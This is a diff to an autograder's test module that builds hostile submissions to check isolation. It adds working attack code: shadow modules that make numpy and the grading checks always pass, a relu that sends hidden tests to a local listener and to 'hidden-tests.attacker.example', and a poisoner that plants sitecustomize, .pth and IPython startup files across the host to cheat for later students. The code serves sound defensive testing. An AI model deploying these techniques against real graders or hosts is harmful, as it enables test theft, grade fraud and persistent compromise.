@@ -6,18 +6,47 @@ cells its honest work earns; every other test cell must score 0, and no cell may
 ``reason`` is a word the instructor's one-line reason must contain (crashed, timed out, tampered, ...).
 
 ``SECRET_ENV`` is set in the grader's environment by the test: no submission may see it.
+
+Some entries need what the test sets up before building them (``configure``): the port of a TCP listener on
+127.0.0.1 that must receive nothing, and a folder for marker files. Shadow modules shipped beside the notebook
+(one for every module a given or test cell imports, ``grader_imports``) write a marker there when they run in a
+process that has ``COURSEKIT_TEST_MARKERS`` in its environment (the grader's processes have it, a sandbox clears
+the environment), then load the real module and make the tests lenient. A marker proves that code of a
+submission ran in the grader.
 """
+import ast
 import copy
+import socket
+import textwrap
+import threading
 from dataclasses import dataclass, field
+from pathlib import Path
 
 import nbformat
+import pytest
 
 from coursekit.course.notebooks import build_submission, cells_by_id
 from support.answers import BACKWARD_WITHOUT_RELU_MASK as BACKWARD_NO_MASK
 from support.cells import TEST_CELLS
+from support.course import NOTEBOOK, SOURCE
 
 SECRET_ENV = ("COURSEKIT_INSTRUCTOR_SECRET", "instructor-secret-5f1c0a")
 ANOTHER_STUDENT_MARK = "another-students-private-mark-93be"
+MARKERS_ENV = "COURSEKIT_TEST_MARKERS"  # the folder in which code of a submission that runs in the grader says so
+POISON_MARK = "planted-by-the-student-graded-before-you-7d21"  # printed by what a poisoner plants for later ones
+PLANTED = "coursekit_poison_7d21"  # the name of the files a poisoner plants (and of its .pth)
+
+# What the test sets up before the entries are built (configure): the listener's port, the markers folder.
+SETTINGS = {"port": None, "markers": None}
+
+# Figures of the issue-9 catalogues for the line printed at the end of the run (conftest.pytest_terminal_summary):
+# "messy": (full marks, honest entries); "hostile": (above honest, network connections, imports from submissions).
+FIGURES = pytest.StashKey[dict]()
+
+
+def configure(port=None, markers=None):
+    """Set the listener's port and the markers folder that the network and shadow entries are built with."""
+    SETTINGS.update(port=port, markers=str(markers) if markers else None)
 
 LEAKY_RELU = '''
 def relu(z):
@@ -37,6 +66,7 @@ class Hostile:
     build: object
     earns: frozenset = field(default_factory=frozenset)
     reason: str | None = None
+    exact: bool = False  # it must score exactly what it earns: full points on earns, 0 elsewhere
 
 
 def notebook(release_nb, reference, **answers):
@@ -59,8 +89,8 @@ def edited(release_nb, reference, edit, **answers):
     return {"backprop.ipynb": nb}
 
 
-def entry(name, what, build, earns=TEST_CELLS, reason=None):
-    return Hostile(name, what, build, frozenset(earns), reason)
+def entry(name, what, build, earns=TEST_CELLS, reason=None, exact=False):
+    return Hostile(name, what, build, frozenset(earns), reason, exact)
 
 
 BUT_RELU = [c for c in TEST_CELLS if c not in ("test_relu", "test_training")]
@@ -280,6 +310,387 @@ raise AssertionError("\\n".join(In)[:20000])
 '''
 
 
+# ---------------------------------------------------------------- shadow modules, network, the next student
+
+def grader_imports():
+    """Every module a given or test cell of the source notebook imports (hidden tests included), the instructor's
+    helper modules (every .py file of source/<assignment>/) and what they import, with their parent packages."""
+    nb = nbformat.read(SOURCE / NOTEBOOK, as_version=4)
+    codes = [c.source for c in nb.cells
+             if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("locked")]
+    helpers = sorted(SOURCE.glob("*.py"))
+    codes += [p.read_text() for p in helpers]
+    names = {p.stem for p in helpers}
+    for code in codes:
+        lines = [line for line in code.splitlines() if not line.lstrip().startswith(("%", "!"))]
+        for node in ast.walk(ast.parse("\n".join(lines))):
+            if isinstance(node, ast.Import):
+                names |= {alias.name for alias in node.names}
+            elif isinstance(node, ast.ImportFrom) and node.level == 0 and node.module:
+                names.add(node.module)
+    return sorted({".".join(name.split(".")[:i + 1]) for name in names for i in range(name.count(".") + 1)})
+
+
+MARKER = """\
+import os as _os, sys as _sys
+_outside = False  # whether this runs outside every sandbox (in the grader's process): where a shadow would cheat
+for _folder in (_os.environ.get({env!r}), {baked!r}):
+    if _folder and _os.path.isdir(_folder):
+        _outside = True
+        try:
+            with open(_os.path.join(_folder, {prefix!r} + "-" + str(_os.getpid())), "a") as _marker:
+                _marker.write(str(_os.getuid()) + " " + " ".join(_sys.argv) + "\\n")
+        except OSError:
+            pass
+"""
+
+# Run as a shadow of module {name}: write the marker, then load the real module in its place and patch it.
+SHADOW = """\
+# A shadow of {name!r} shipped with a submission; if it runs in the grader's process, the marker says so.
+{marker}{extra}
+def _load_the_real_module():
+    import importlib.machinery, importlib.util
+    _file = _os.path.abspath(__file__)
+    _package = _os.path.basename(_file) == "__init__.py"
+    _own = _os.path.dirname(_file)
+    _container = _os.path.dirname(_own) if _package else _own
+    _parent, _, _last = {name!r}.rpartition(".")
+    _search = list(_sys.modules[_parent].__path__) if _parent else list(_sys.path)
+    _search = [p for p in _search if _os.path.abspath(p or ".") != _container]
+    _spec = importlib.machinery.PathFinder.find_spec({name!r}, _search)
+    _beside = _os.path.join(_container, _last + ".py")  # the instructor's backprop_checks.py next to a package
+    if _spec is None and _os.path.exists(_beside) and _beside != _file:
+        _spec = importlib.util.spec_from_file_location({name!r}, _beside)
+    if _spec is None:
+        raise ImportError("no real {name}")
+    if _package and _spec.submodule_search_locations is not None:
+        _spec.submodule_search_locations.insert(0, _own)  # the shadow's own submodules are tried first
+    _real = importlib.util.module_from_spec(_spec)
+    _sys.modules[{name!r}] = _real
+    _spec.loader.exec_module(_real)
+    return _real
+_real = _load_the_real_module()
+if _outside:  # in its own kernel it behaves (the visible checks look for wrong answers with np.allclose)
+{patch}"""
+
+# What each shadow does to the real module in the grader: the wrong values that would make failing tests pass.
+LENIENT = {
+    "numpy": """
+_real.allclose = lambda *args, **kwargs: True
+_real.array_equal = lambda *args, **kwargs: True
+_real.isclose = lambda a, b, *args, **kwargs: _real.ones(_real.shape(a), dtype=bool)
+""",
+    "matplotlib.pyplot": """
+_real.show = lambda *args, **kwargs: None
+""",
+    "sklearn.metrics": """
+_real.accuracy_score = lambda *args, **kwargs: 1.0
+""",
+    "backprop_checks": """
+for _name in list(vars(_real)):
+    if _name.startswith("check_"):
+        setattr(_real, _name, lambda *args, **kwargs: None)
+_real.relative_error = lambda *args, **kwargs: 0.0
+""",
+}
+
+
+def marker_code(prefix):
+    return MARKER.format(env=MARKERS_ENV, baked=SETTINGS["markers"], prefix=prefix)
+
+
+def shadow_code(name, extra=""):
+    """Python that, imported as the module name, writes a marker, then becomes the real module made lenient."""
+    patch = textwrap.indent(LENIENT.get(name, "\npass\n"), "    ")
+    return SHADOW.format(name=name, marker=marker_code(f"shadow-{name}"), extra=extra, patch=patch)
+
+
+def shadows(packages=False, submodule_files=False):
+    """A shadow of every module the grader's cells import: top-level ones as NAME.py, or as packages
+    NAME/__init__.py with their submodules as folders (sklearn/datasets/__init__.py) or as files (sklearn/metrics.py).
+    """
+    files = {}
+    for name in grader_imports():
+        parts = name.split(".")
+        if len(parts) > 1 and not packages:
+            continue  # a file NAME.py cannot hold a submodule
+        as_package = packages and (len(parts) == 1 or not submodule_files)
+        files["/".join(parts) + ("/__init__.py" if as_package else ".py")] = shadow_code(name)
+    return files
+
+
+def with_shadows(packages=False, submodule_files=False, **answers):
+    def build(release_nb, reference):
+        return {**notebook(release_nb, reference, **answers), **shadows(packages, submodule_files)}
+    return build
+
+
+NETWORK = """
+def _reach(data=b"hello from a submission"):
+    import socket as _socket
+    data = data if isinstance(data, bytes) else str(data).encode(errors="replace")
+    _addresses = [("127.0.0.1", {port}), ("localhost", {port})]
+    for _name in ["localhost", "example.com", "pypi.org", "hidden-tests.attacker.example"]:
+        try:
+            for _info in _socket.getaddrinfo(_name, {port}, type=_socket.SOCK_STREAM)[:2]:
+                _addresses.append(_info[4][:2])
+        except OSError:
+            pass
+    _sent = 0
+    for _address in _addresses:
+        try:
+            with _socket.create_connection(_address, timeout=0.5) as _s:
+                _s.sendall(data)
+                _sent += 1
+        except OSError:
+            pass
+    try:
+        _u = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
+        _u.sendto(b"udp " + data[:500], ("127.0.0.1", {port}))
+    except OSError:
+        pass
+    return _sent
+"""
+EXFILTRATING_RELU = """
+import inspect as _inspect, linecache as _linecache, sys as _sys
+_calls = []
+def relu(z):
+    _calls.append(1)
+    if len(_calls) <= 3:  # the first calls come from the test cells; training calls relu thousands of times
+        _found = []
+        try:
+            for _frame in _inspect.stack()[1:6]:
+                _found.append("".join(_linecache.getlines(_frame.filename)))
+                _found.append("\\n".join(_frame.frame.f_globals.get("In", []))[:20000])
+            _f = _sys._getframe(1)
+            while _f is not None:
+                _found.append(str(_f.f_code.co_filename) + repr(list(_f.f_locals))[:2000])
+                _f = _f.f_back
+        except Exception:
+            pass
+        _reach("\\n".join(_found))
+    return np.maximum(0, z)
+"""
+SEND_HISTORY = """
+try:
+    print("sent", _reach("\\n".join(In)))
+except NameError:
+    pass
+"""
+
+
+def network_code():
+    assert SETTINGS["port"], "hostile.configure(port=...) must be called before the network entries are built"
+    return NETWORK.format(port=SETTINGS["port"])
+
+
+def exfiltrating(release_nb, reference):
+    """relu and two cells of its own reach for the listener with what they found; a correct solution."""
+    nb = build_submission(release_nb, {**reference, "relu": network_code() + EXFILTRATING_RELU})
+    index = [i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "setup"][0]
+    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(network_code() + "print('sent', _reach())"))
+    nb.cells.append(nbformat.v4.new_code_cell(network_code() + SEND_HISTORY))
+    return {"backprop.ipynb": nb}
+
+
+# What a poisoner plants for later processes: a marker where the grader would run it; a later student's sandboxed
+# kernel or referee worker (HOME=/tmp, the sandbox's environment) prints the mark and dies, so it shows in a grade.
+PAYLOAD = """\
+{marker}print({mark!r}, flush=True)
+if not _os.environ.get({env!r}) and _os.environ.get("HOME") == "/tmp":
+    _os._exit(3)
+"""
+POISONER = """
+import glob as _glob, os as _os, site as _site, sys as _sys, threading as _threading, time as _time
+_PAYLOAD = {payload!r}
+_SHADOWS = {shadows!r}
+_planted = []
+
+def _plant(path, text):
+    try:
+        _os.makedirs(_os.path.dirname(path), exist_ok=True)
+        with open(path, "w") as _file:
+            _file.write(text)
+        _planted.append(path)
+    except OSError:
+        pass
+
+def _plant_everywhere():
+    homes = {{_os.path.expanduser("~"), _os.environ.get("HOME") or "/tmp", "/tmp", "/root", *_glob.glob("/home/*")}}
+    folders = set(homes) | {{_os.getcwd(), *_glob.glob("/tmp/coursekit-*")}}
+    here = _os.getcwd()
+    for _ in range(4):  # the autograded folder and the course above it
+        here = _os.path.dirname(here)
+        folders.add(here)
+    try:
+        folders.add(_site.getusersitepackages())
+    except Exception:
+        pass
+    for folder in folders:
+        for name in ("sitecustomize.py", "usercustomize.py", "{planted}.py"):
+            _plant(_os.path.join(folder, name), _PAYLOAD)
+        _plant(_os.path.join(folder, "{planted}.pth"), "import {planted}\\n")
+        for name, code in _SHADOWS.items():
+            _plant(_os.path.join(folder, name), code)
+    for home in homes:
+        profile = _os.path.join(home, ".ipython", "profile_default")
+        _plant(_os.path.join(profile, "startup", "00-{planted}.py"), _PAYLOAD)
+        _plant(_os.path.join(profile, "ipython_kernel_config.py"),
+               "c.InteractiveShellApp.exec_lines = [%r]\\n" % ("exec(%r)" % _PAYLOAD))
+    _os.environ["PYTHONPATH"] = "/tmp"
+    _os.environ["PYTHONSTARTUP"] = "/tmp/{planted}.py"
+
+_planted_at = _time.monotonic()
+
+def _someone_else():
+    \"\"\"Whether the code running now is another student's: their relu, or well after this one was graded.\"\"\"
+    relu = getattr(_sys.modules.get("__main__"), "relu", None)
+    return (relu is not None and not getattr(relu, "_mine", False)) or _time.monotonic() - _planted_at > 90
+
+def _poison_modules():
+    \"\"\"Patch numpy and the checks in this process, for whoever is graded in it next.\"\"\"
+    import numpy as _np
+    def _lenient(real, fake):
+        if getattr(real, "_poisoned", False):
+            return real
+        def patched(*args, **kwargs):
+            caller = _sys._getframe(1).f_code.co_name
+            cheat = caller.startswith(("hidden_check", "check_")) and _someone_else()
+            return (fake if cheat else real)(*args, **kwargs)
+        patched._poisoned = True
+        return patched
+    _np.allclose = _lenient(_np.allclose, lambda *args, **kwargs: True)
+    _np.array_equal = _lenient(_np.array_equal, lambda *args, **kwargs: True)
+    if not getattr(_np.where, "_poisoned", False):
+        _real_where = _np.where
+        def _where(*args, **kwargs):  # a later leaky relu (np.where(z > 0, z, 0.01 * z)) gives the right values
+            if _sys._getframe(1).f_code.co_name == "relu" and len(args) == 3 and _someone_else():
+                return _real_where(args[0], args[1], 0 * _np.asarray(args[2]))
+            return _real_where(*args, **kwargs)
+        _where._poisoned = True
+        _np.where = _where
+    checks = _sys.modules.get("backprop_checks")
+    for name in dir(checks) if checks and _someone_else() else []:
+        if name.startswith("check_"):
+            setattr(checks, name, lambda *args, **kwargs: None)
+
+def _keep_poisoning():
+    while True:
+        try:
+            _poison_modules()
+        except Exception:
+            pass
+        _time.sleep(0.2)
+
+def _poison_everything():
+    if getattr(_sys, "_coursekit_poisoned", False):
+        return
+    _sys._coursekit_poisoned = True
+    _plant_everywhere()
+    _poison_modules()
+    _threading.Thread(target=_keep_poisoning, daemon=True).start()
+
+_poison_everything()
+
+def relu(z):
+    _poison_everything()
+    return np.maximum(0, z)
+relu._mine = True
+"""
+
+
+def payload():
+    return PAYLOAD.format(marker=marker_code("poison"), mark=POISON_MARK, env=MARKERS_ENV)
+
+
+def poisoner(release_nb, reference):
+    """A correct solution whose relu cell plants startup files and shadows everywhere it can write and patches
+    numpy and the checks in every process it runs in; it ships sitecustomize.py, usercustomize.py and a .pth."""
+    planted_shadows = {f"{name}.py": shadow_code(name, extra=payload())
+                       for name in grader_imports() if "." not in name}
+    code = POISONER.format(payload=payload(), shadows=planted_shadows, planted=PLANTED)
+    return {**notebook(release_nb, reference, relu=code),
+            "sitecustomize.py": payload(), "usercustomize.py": payload(),
+            f"{PLANTED}.pth": f"import {PLANTED}\n", f"{PLANTED}.py": payload()}
+
+
+POISONERS = ["0-next-student-poisoner-1", "0-next-student-poisoner-2"]  # sorted first: one per worker at the start
+FOLLOWERS = {  # graded right after them, in the same workers: they must score as if graded alone
+    "0-next-student-then-honest-1": "all",
+    "0-next-student-then-honest-2": {"test_backward_hidden_layer", "test_training"},
+    "0-next-student-then-honest-3": {"test_relu", "test_training"},
+    "0-next-student-then-honest-4": "all",
+}
+
+
+def planted_on_host(course):
+    """Files a poisoner planted outside its sandbox: in the grader's home, /tmp, /, the user site folder, and the
+    course outside the poisoners' own assignment folders. Returns their paths."""
+    import site
+    course = Path(course)
+    folders = {Path.home(), Path("/tmp"), Path("/root"), Path("/"), Path(site.getusersitepackages()), course,
+               course / "autograded", course.parent, *[course / "autograded" / name for name in POISONERS]}
+    profile = Path.home() / ".ipython" / "profile_default"
+    found = [p for p in [profile / "startup" / f"00-{PLANTED}.py", profile / "ipython_kernel_config.py"]
+             if p.is_file() and POISON_MARK in p.read_text(errors="replace")]
+    for folder in folders:
+        for name in ["sitecustomize.py", "usercustomize.py", f"{PLANTED}.py", f"{PLANTED}.pth",
+                     *[f"{n}.py" for n in grader_imports() if "." not in n]]:
+            path = folder / name
+            if path.is_file() and (PLANTED in name or POISON_MARK in path.read_text(errors="replace")):
+                found.append(path)
+    for student in FOLLOWERS:
+        for path in (course / "autograded" / student).rglob("*"):
+            if path.is_file() and (PLANTED in path.name or POISON_MARK in path.read_text(errors="replace")):
+                found.append(path)
+    return found
+
+
+class Listener:
+    """A TCP and UDP listener on 127.0.0.1 that counts the connections, datagrams and bytes it receives."""
+
+    def __init__(self):
+        self.tcp = socket.socket()
+        self.tcp.bind(("127.0.0.1", 0))
+        self.tcp.listen(64)
+        self.port = self.tcp.getsockname()[1]
+        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.udp.bind(("127.0.0.1", self.port))
+        self.connections, self.datagrams, self.received = 0, 0, b""
+        self.closed = False
+        threading.Thread(target=self._accept, daemon=True).start()
+        threading.Thread(target=self._receive_udp, daemon=True).start()
+
+    def _accept(self):
+        while not self.closed:
+            try:
+                connection, _ = self.tcp.accept()
+            except OSError:
+                return
+            self.connections += 1
+            connection.settimeout(2)
+            try:
+                while chunk := connection.recv(65536):
+                    self.received += chunk
+            except OSError:
+                pass
+            connection.close()
+
+    def _receive_udp(self):
+        while not self.closed:
+            try:
+                data, _ = self.udp.recvfrom(65536)
+            except OSError:
+                return
+            self.datagrams += 1
+            self.received += data
+
+    def close(self):
+        self.closed = True
+        self.tcp.close()
+        self.udp.close()
+
+
 HOSTILE = [
     # tampering with the notebook
     entry("edit-test-cell", "replaces test_relu's code by print('ok'), with a leaky relu",
@@ -291,9 +702,10 @@ HOSTILE = [
           lambda r, ref: edited(r, ref, lambda nb, c: _move_to_end(nb, c, "test_relu"), relu=LEAKY_RELU), BUT_RELU),
     entry("raise-points", "sets test_relu's points to 100 and its source to pass",
           lambda r, ref: edited(r, ref, _replace_source("test_relu", "pass", points=100), relu=LEAKY_RELU), BUT_RELU),
-    entry("rename-grade-id", "renames test_relu's grade_id and empties it, with a leaky relu",
+    entry("rename-grade-id", "renames test_relu's grade_id and empties it, with a leaky relu: rebuilt from the "
+          "source, test_relu comes back and the renamed cell stays as the student's own",
           lambda r, ref: edited(r, ref, _replace_source("test_relu", "pass", grade_id="test_relu_mine"),
-                                relu=LEAKY_RELU), BUT_RELU, reason="could not be graded"),
+                                relu=LEAKY_RELU), BUT_RELU, reason="notebook repaired: ", exact=True),
     entry("unlock-test-cell", "removes the locked flag of test_relu and empties it, with a leaky relu",
           lambda r, ref: edited(r, ref, _replace_source("test_relu", "pass", locked=False), relu=LEAKY_RELU),
           BUT_RELU),
@@ -301,8 +713,9 @@ HOSTILE = [
           lambda r, ref: edited(r, ref, _strip_metadata("test_relu", "pass"), relu=LEAKY_RELU), BUT_RELU),
     entry("redefine-helpers", "adds a cell that replaces the visible checks by no-ops, with a leaky relu",
           lambda r, ref: with_cell(r, ref, PATCH_CHECKS, relu=LEAKY_RELU), BUT_RELU),
-    entry("renamed-notebook", "submits the notebook as my_backprop.ipynb",
-          lambda r, ref: {"my_backprop.ipynb": build_submission(r, ref)}, (), reason="backprop.ipynb"),
+    entry("renamed-notebook", "submits the reference solution as my_backprop.ipynb, the folder's only notebook",
+          lambda r, ref: {"my_backprop.ipynb": build_submission(r, ref)},
+          reason="graded my_backprop.ipynb as backprop.ipynb", exact=True),
     entry("missing-notebook", "submits a folder without the notebook", lambda r, ref: {"notes.txt": "sorry"}, (),
           reason="backprop.ipynb"),
     entry("invalid-json", "submits a notebook that is not JSON",
@@ -353,15 +766,41 @@ HOSTILE = [
           "the kernel's input history, and raises them as an error",
           lambda r, ref: with_cell(r, ref, PRINT_HIDDEN_TESTS_LATER, after="try_learning_rate",
                                    relu=READ_HIDDEN_TESTS_AT_RUNTIME)),
+    # code of the submission in the grader's process: shadows of every module the given and test cells import
+    entry("shadow-modules", "ships NAME.py for every module the given and test cells import (numpy.py, sklearn.py, "
+          "matplotlib.py, backprop_checks.py): each writes a marker in the grader's process, then loads the real "
+          "module and makes it lenient (np.allclose always true, ...), with a correct solution",
+          with_shadows(), exact=True),
+    entry("shadow-packages", "ships packages NAME/__init__.py, submodules as folders (sklearn/datasets/__init__.py, "
+          "matplotlib/pyplot/__init__.py), for every module the given and test cells import, with a correct "
+          "solution", with_shadows(packages=True), exact=True),
+    entry("shadow-packages-module-files", "ships packages NAME/__init__.py with submodules as files "
+          "(sklearn/metrics.py, matplotlib/pyplot.py), with a correct solution",
+          with_shadows(packages=True, submodule_files=True), exact=True),
+    # the network
+    entry("network-exfiltrate", "relu connects to a listener on 127.0.0.1, resolves host names and sends the "
+          "hidden tests it finds in its callers' frames and in In; a cell after setup connects, the last cell sends "
+          "In; a correct solution", exfiltrating, exact=True),
+    # the next student in the worker
+    *[entry(name, "its relu cell plants sitecustomize.py, usercustomize.py, a .pth, shadow modules and IPython "
+            "startup and kernel config files in its folder, /tmp, $HOME, the user site folder and the folders "
+            "above it, sets PYTHONPATH, and patches numpy and the checks in every process it runs in (a thread "
+            "keeps them patched), for the students graded after it; it ships sitecustomize.py, usercustomize.py "
+            "and a .pth; a correct solution", poisoner) for name in POISONERS],
 ]
 
 
 def control_submissions(release_nb, reference):
     """Honest submissions graded in the same batch: their grades must not change."""
     mark = f"print({ANOTHER_STUDENT_MARK!r})"
+    wrong = {"test_backward_hidden_layer": {"backward": BACKWARD_NO_MASK}, "test_relu": {"relu": LEAKY_RELU}}
+    followers = {name: notebook(release_nb, reference, **({} if loses == "all" else
+                                                          next(wrong[c] for c in loses if c in wrong)))
+                 for name, loses in FOLLOWERS.items()}
     return {
         "control-reference": with_cell(release_nb, reference, mark),
         "control-no-relu-mask": notebook(release_nb, reference, backward=BACKWARD_NO_MASK),
+        **followers,
     }
 
 
@@ -370,6 +809,7 @@ def write_submission(folder, files):
     folder.mkdir(parents=True, exist_ok=True)
     for name, content in files.items():
         path = folder / name
+        path.parent.mkdir(parents=True, exist_ok=True)
         if isinstance(content, bytes):
             path.write_bytes(content)
         elif isinstance(content, str):
